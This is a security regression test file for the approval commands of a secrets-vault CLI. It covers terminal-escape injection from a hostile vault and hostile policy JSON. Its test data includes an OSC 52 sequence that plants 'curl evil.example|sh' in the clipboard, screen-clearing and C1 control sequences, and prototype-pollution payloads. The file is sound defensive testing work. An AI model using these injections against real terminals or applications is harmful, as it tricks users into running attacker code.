/**
 * Second attack review of human approvals (issue 10), the CLI side: what a hostile (or
 * man-in-the-middled) vault can make `ass` print to a person's terminal, and what hostile input
 * `ass approvals policy set --file` gets.
 *
 * The vault here is a stub that answers what a test scripts. Tests named `attack ...` replay a hole this review found, since closed (the comment above
 * each says how it worked). The other tests are regression tests for promises that held.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { generateCredential } from '../../src/core/credentials.js';
import { ass } from '../helpers/cli-io.js';
import { type StubRequest, sendJson, startStubServer } from '../helpers/cli-stub-server.js';

const ID = 'Ab12Cd34Ef56Gh78';
/** OSC 52: sets the terminal's clipboard (here to `curl evil.example|sh`); BEL ends it. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007';
/** Clears the screen and homes the cursor: whatever was printed before is gone. */
const CLEAR = '\u001b[2J\u001b[H';
/** An 8-bit CSI (C1), which some terminals obey like ESC [. */
const C1_CSI = '\u009b31m';
/** Every terminal control a line of output may carry: C0 (but \n ending a line), DEL and C1. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const USER = { ASS_TOKEN: generateCredential('user').secret };

/** A request as the vault shows it (the Approval schema), with hostile strings where strings go. */
function hostileView(over: Record<string, unknown> = {}) {
  return {
    id: ID,
    kind: 'read',
    status: 'pending',
    requester: { type: 'user', name: `mallory${CLEAR}`, tokenId: null, claims: null },
    paths: [`prod/db${OSC52}`],
    scopes: [],
    ttl: null,
    maxUses: null,
    description: `routine${C1_CSI}`,
    ip: '127.0.0.1',
    requiredApprovals: 1,
    approvals: 0,
    approvers: [`alice${CLEAR}`],
    rule: 'tier critical',
    decisions: [],
    createdAt: '2026-11-23T10:00:00.000Z',
    expiresAt: '2026-11-24T10:00:00.000Z',
    decidedAt: null,
    collectedAt: null,
    approveCommand: `ass approvals approve ${ID}${OSC52}`,
    ...over,
  };
}

function held(res: ServerResponse, view = hostileView()) {
  sendJson(res, 202, {
    error: {
      code: 'approval_required',
      message: `prod/db needs a human approval${CLEAR}`,
      requestId: 'r1',
      details: { approvalId: view.id, ...view },
    },
  });
}

const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (closers.length) await closers.pop()?.();
});

async function stub(handler: (req: StubRequest, res: ServerResponse) => void) {
  const s = await startStubServer(handler);
  closers.push(s.close);
  return { ...USER, ASS_URL: s.url };
}

function expectNoControl(where: string, text: string) {
  const m = CONTROL.exec(text);
  expect(
    m,
    `${where} carries the terminal control ${JSON.stringify(m?.[0])} at ${m?.index}: ${JSON.stringify(text.slice(0, 300))}`,
  ).toBeNull();
}

describe('what a hostile vault can print to the terminal', () => {
  it('(holds) ass approvals list and the fields of ass approvals show replace every control character', async () => {
    const env = await stub((req, res) =>
      req.url.startsWith('/v1/approvals?') || req.url === '/v1/approvals'
        ? sendJson(res, 200, { approvals: [hostileView()] })
        : sendJson(res, 200, hostileView({ status: 'collected', collectedAt: '2026-11-23T11:00:00.000Z' })),
    );
    const list = await ass(['approvals', 'list'], env);
    expect(list.code, list.stderr).toBe(0);
    expectNoControl('list', list.stdout);
    // A collected request: show prints only its fields (no "Approve:" line).
    const show = await ass(['approvals', 'show', ID], env);
    expect(show.code, show.stderr).toBe(0);
    expectNoControl('show', show.stdout);
  });

  it('(holds) --json escapes C0 control characters (JSON string escapes) and keeps the values exact', async () => {
    const env = await stub((_req, res) => sendJson(res, 200, hostileView()));
    const r = await ass(['approvals', 'show', ID, '--json'], env);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('\u001b');
    expect(JSON.parse(r.stdout).approveCommand).toBe(`ass approvals approve ${ID}${OSC52}`);
  });

  // Was (a review found this hole; closed): cli-json-c1: JSON.stringify escapes C0 controls but writes C1 controls (U+0080-U+009F)
  // as they are, so `--json` (src/cli/common.ts json()) prints an 8-bit CSI (U+009B) from the
  // vault raw; terminals that honour C1 controls in UTF-8 (xterm does by default) obey it. Held
  // from an honest vault too: the API's Description pattern refuses C0 only, so a requester's
  // description or reason may carry U+009B (see the server file's description test).
  it('attack cli-json-c1: --json output carries no C1 control character', async () => {
    const env = await stub((_req, res) => sendJson(res, 200, hostileView()));
    const r = await ass(['approvals', 'show', ID, '--json'], env);
    expect(r.code).toBe(0);
    expectNoControl('show --json', r.stdout);
  });

  // Was (a review found this hole; closed): cli-show-approve-line: `ass approvals show` cleans its fields, but the closing
  // "Approve: ${a.approveCommand} ... Deny: ass approvals deny ${a.id}" line of a pending request
  // is written raw (src/cli/approvals.ts, show.run). A vault's approveCommand (or id) carrying
  // OSC 52 sets the approver's clipboard, or CSI sequences repaint what the approver reads.
  it('attack cli-show-approve-line: the Approve line of ass approvals show carries no terminal control', async () => {
    const env = await stub((_req, res) => sendJson(res, 200, hostileView()));
    const r = await ass(['approvals', 'show', ID], env);
    expect(r.code).toBe(0);
    expectNoControl('show', r.stdout);
  });

  // Was (a review found this hole; closed): cli-held-message: the exit-5 report of a held command (src/cli/held.ts reportHeld, via
  // client/approvals.ts describeHeld) prints the 202's paths, approvers, approveCommand and
  // expiresAt raw on stderr; approvalOf validates no field beyond "is an array". The same text is
  // printed by --wait's first line. Any command that can be held is affected (secrets get,
  // batch reads, tokens issue/exchange).
  it('attack cli-held-message: the exit-5 instructions of a held read carry no terminal control', async () => {
    const env = await stub((_req, res) => held(res));
    const r = await ass(['secrets', 'get', 'prod/db'], env);
    expect(r.code).toBe(5);
    expectNoControl('exit-5 stderr', r.stderr);
  });

  // Was (a review found this hole; closed): cli-decision-output: `ass approvals approve|deny` print the answer's requester name,
  // paths, approvers and expiry raw (src/cli/approvals.ts approve.run / deny.run).
  it('attack cli-decision-output: ass approvals approve and deny print no terminal control', async () => {
    const env = await stub((req, res) =>
      sendJson(
        res,
        200,
        hostileView(
          req.url.endsWith('/deny')
            ? {
                status: 'denied',
                decidedAt: '2026-11-23T10:05:00.000Z',
                decisions: [{ user: 'me', decision: 'deny', reason: 'no', at: '2026-11-23T10:05:00.000Z' }],
              }
            : { requiredApprovals: 2 },
        ),
      ),
    );
    const a = await ass(['approvals', 'approve', ID], env);
    expect(a.code, a.stderr).toBe(0);
    const d = await ass(['approvals', 'deny', ID, '--reason', 'not now'], env);
    expect(d.code, d.stderr).toBe(0);
    expectNoControl('approve', a.stdout);
    expectNoControl('deny', d.stdout);
  });

  // Was (a review found this hole; closed): cli-wait-progress: --wait's progress lines ("waiting: approval ${a.id} has ...") and the
  // final "was approved by ${users}" line print the polled answer's id, expiry and approver names
  // raw (src/cli/held.ts progressLine / orWaitForApproval). The schema check on the poll answer
  // only says they are strings.
  it('attack cli-wait-progress: the lines --wait prints while polling carry no terminal control', async () => {
    let polls = 0;
    const env = await stub((req, res) => {
      if (req.url.startsWith('/v1/secrets/'))
        return held(res, hostileView({ paths: ['prod/db'], approvers: ['alice'], approveCommand: `ass approvals approve ${ID}` }));
      polls++;
      return sendJson(
        res,
        200,
        hostileView({
          id: `${ID}${CLEAR}`,
          expiresAt: '2026-11-24T10:00:00.000Z',
          decisions: polls > 1 ? [{ user: `alice${OSC52}`, decision: 'approve', reason: null, at: '2026-11-23T10:01:00.000Z' }] : [],
          requiredApprovals: 2,
        }),
      );
    });
    let t = 0;
    const r = await ass(['secrets', 'get', 'prod/db', '--wait', '--wait-timeout', '5s'], env, {
      deps: {
        now: () => t,
        sleep: async (ms) => {
          t += ms;
        },
      },
    });
    expect(polls).toBeGreaterThan(0);
    expectNoControl('--wait stderr', r.stderr);
  });

  // Was (a review found this hole; closed): cli-error-message: any refusal's message from the vault is printed raw
  // (src/cli/main.ts: ctx.err(`error: ${e.message}`)). A denial's message quotes the approver's
  // reason; a hostile vault's message can carry anything. (Not specific to approvals.)
  it('attack cli-error-message: the error line of a refused command carries no terminal control', async () => {
    const env = await stub((_req, res) =>
      sendJson(res, 403, { error: { code: 'approval_denied', message: `Approval ${ID} was denied${OSC52}`, requestId: 'r2' } }),
    );
    const r = await ass(['secrets', 'get', 'prod/db'], env);
    expect(r.code).not.toBe(0);
    expectNoControl('error line', r.stderr);
  });

  it('(holds) --wait is bounded by --wait-timeout even when the vault answers "pending" forever', async () => {
    let t = 0;
    let polls = 0;
    const env = await stub((req, res) => {
      if (req.url.startsWith('/v1/secrets/'))
        return held(res, hostileView({ paths: ['prod/db'], approvers: ['alice'], approveCommand: 'x' }));
      polls++;
      return sendJson(res, 200, hostileView({ paths: ['prod/db'], approvers: ['alice'], approveCommand: 'x' }));
    });
    const sleeps: number[] = [];
    const r = await ass(['secrets', 'get', 'prod/db', '--wait', '--wait-timeout', '10m'], env, {
      deps: {
        now: () => t,
        sleep: async (ms) => {
          sleeps.push(ms);
          t += ms;
        },
      },
    });
    expect(r.code).toBe(5);
    expect(t).toBeLessThanOrEqual(10 * 60_000);
    expect(Math.max(...sleeps)).toBeLessThanOrEqual(30_000);
    expect(polls).toBeLessThan(40);
  });
});

describe('ass approvals policy set --file with hostile JSON', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'ass-appr-attack-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function setFrom(name: string, text: string) {
    const requests: StubRequest[] = [];
    const env = await stub((req, res) => {
      requests.push(req);
      sendJson(res, 500, { error: { code: 'internal', message: 'the stub should not be asked', requestId: 'r' } });
    });
    const file = path.join(dir, name);
    await writeFile(file, text);
    const r = await ass(['approvals', 'policy', 'set', '--file', file], env);
    return { ...r, requests };
  }

  const TIERS = '"standard":{"required_approvals":0},"sensitive":{"required_approvals":1},"critical":{"required_approvals":1}';

  it('(holds) prototype keys (__proto__, constructor) anywhere are refused by name before any request', async () => {
    for (const [name, text] of [
      ['proto-root.json', `{"__proto__":{"polluted":true},"tiers":{${TIERS}}}`],
      ['proto-wrap.json', `{"approval_policy":{"tiers":{${TIERS}}},"__proto__":{"x":1}}`],
      ['proto-tier.json', `{"tiers":{${TIERS},"__proto__":{"required_approvals":0}}}`],
      [
        'proto-rule.json',
        `{"tiers":{"standard":{"required_approvals":0},"sensitive":{"required_approvals":1},"critical":{"required_approvals":1,"__proto__":{"required_approvals":0}}}}`,
      ],
      ['ctor.json', `{"tiers":{${TIERS}},"prefixes":[{"prefix":"p","required_approvals":1,"constructor":{"prototype":{"x":1}}}]}`],
    ] as const) {
      const r = await setFrom(name, text);
      expect(r.code, `${name}: ${r.stderr}`).toBe(2);
      expect(r.stderr, name).toMatch(/__proto__|constructor/);
      expect(r.requests, name).toEqual([]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    }
  });

  it('(holds) wrong types are refused with the field named, before any request', async () => {
    for (const [name, text, field] of [
      [
        'str-count.json',
        `{"tiers":{"standard":{"required_approvals":0},"sensitive":{"required_approvals":"1"},"critical":{"required_approvals":1}}}`,
        'sensitive',
      ],
      [
        'neg.json',
        `{"tiers":{"standard":{"required_approvals":0},"sensitive":{"required_approvals":-1},"critical":{"required_approvals":1}}}`,
        'sensitive',
      ],
      ['prefixes-obj.json', `{"tiers":{${TIERS}},"prefixes":{"prefix":"p"}}`, 'prefixes'],
      ['approvers-str.json', `{"tiers":{${TIERS}},"approvers":"alice"}`, 'approvers'],
      ['array.json', '[1,2,3]', 'JSON object'],
      ['null.json', 'null', 'JSON object'],
    ] as const) {
      const r = await setFrom(name, text);
      expect(r.code, `${name}: ${r.stderr}`).toBe(2);
      expect(r.stderr, name).toContain(field);
      expect(r.requests, name).toEqual([]);
    }
  });

  it('(holds) a large file (2 MB of prefix rules) ends in a clear error, not a hang', async () => {
    const rules = Array.from({ length: 20_000 }, (_, i) => `{"prefix":"p${i}","required_approvals":1,"approvers":["not a name!"]}`);
    const r = await setFrom('huge.json', `{"tiers":{${TIERS}},"prefixes":[${rules.join(',')}]}`);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr.length).toBeLessThan(2000);
    expect(r.requests).toEqual([]);
  }, 20_000);
});
